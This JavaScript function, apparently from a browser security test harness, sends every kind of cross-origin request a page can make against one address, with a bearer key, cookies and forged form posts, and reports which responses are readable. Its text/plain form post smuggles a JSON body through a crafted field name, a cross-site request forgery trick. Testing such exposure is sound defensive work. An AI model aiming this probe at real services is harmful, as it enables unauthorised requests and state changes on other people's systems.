// Runs inside a page: every way that a page has to send a request, against one address. Returns what could be read.
window.attack = async (base, path, key) => {
  const address = base + path;
  const place = document.createElement("div"); // paths are tried beside one another, each in a place of its own
  document.body.append(place);
  const readable = [];
  const until = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const soon = (promise) => Promise.race([promise, until(3000)]).catch(() => undefined);
  const note = (how, what) => readable.push(`${how} ${path}: ${String(what).slice(0, 80)}`);

  const body = JSON.stringify({ model: "tiny", prompt: "x", text: "x", messages: [{ role: "user", content: "x" }], max_tokens: 1 });
  const bearer = { Authorization: `Bearer ${key}` };
  const fetches = [
    ["GET", {}],
    ["GET with the key", { headers: bearer }],
    ["GET with cookies", { credentials: "include" }],
    ["POST as text", { method: "POST", body }],
    ["POST as JSON with the key", { method: "POST", body, headers: { ...bearer, "Content-Type": "application/json" } }],
    ["POST with cookies", { method: "POST", body, credentials: "include" }],
    ["PUT", { method: "PUT", body }],
    ["DELETE", { method: "DELETE" }],
    ["HEAD", { method: "HEAD" }],
    ["GET no-cors", { mode: "no-cors" }],
    ["POST no-cors", { method: "POST", mode: "no-cors", body, credentials: "include" }],
    ["POST no-cors kept alive", { method: "POST", mode: "no-cors", body, keepalive: true }],
    ["GET same-origin", { mode: "same-origin" }],
  ];
  await Promise.all(fetches.map(async ([how, options]) => {
    const answer = await soon(fetch(address, options));
    if (!answer) return;
    if (answer.type !== "opaque") note(`fetch ${how}`, answer.status);
    if ((await soon(answer.text()))?.length) note(`fetch ${how} body`, answer.status);
  }));

  await Promise.all(["GET", "POST"].map((method) => soon(new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open(method, address);
    request.onloadend = () => {
      if (request.status !== 0 || request.responseText || request.getAllResponseHeaders()) note(`XMLHttpRequest ${method}`, request.status);
      resolve();
    };
    request.send(method === "POST" ? body : null);
  }))));

  const load = (tag, set) => soon(new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = element.onloadedmetadata = () => resolve(note(`<${tag}>`, "loaded"));
    element.onerror = resolve;
    set(element);
    place.append(element);
  }));
  await Promise.all([
    load("img", (element) => { element.src = address; }),
    load("script", (element) => { element.src = address; }),
    load("script", (element) => { element.type = "module"; element.src = address; }),
    load("link", (element) => { element.rel = "stylesheet"; element.href = address; }),
    load("video", (element) => { element.src = address; }),
  ]);

  await soon(new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try {
        if (frame.contentDocument?.body?.textContent) note("<iframe>", frame.contentDocument.body.textContent);
      } catch { /* not ours to read, as it should be */ }
      resolve();
    };
    frame.src = address;
    place.append(frame);
  }));

  await soon(new Promise((resolve) => {
    const events = new EventSource(address);
    events.onopen = events.onmessage = () => resolve(note("EventSource", "open"));
    events.onerror = () => { events.close(); resolve(); };
  }));
  await soon(new Promise((resolve) => {
    const web = new WebSocket(address.replace(/^http/, "ws"));
    web.onopen = () => resolve(note("WebSocket", "open"));
    web.onerror = resolve;
  }));

  navigator.sendBeacon(address, body);
  for (const encoding of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const frame = document.createElement("iframe");
    frame.name = `form${Math.random()}`;
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: address, enctype: encoding, target: frame.name });
    const field = document.createElement("input");
    Object.assign(field, { name: body.slice(0, -1) + ',"user":"', value: '"}' });
    form.append(field);
    place.append(frame, form);
    form.submit();
  }
  await until(100);
  place.remove();
  return readable;
};
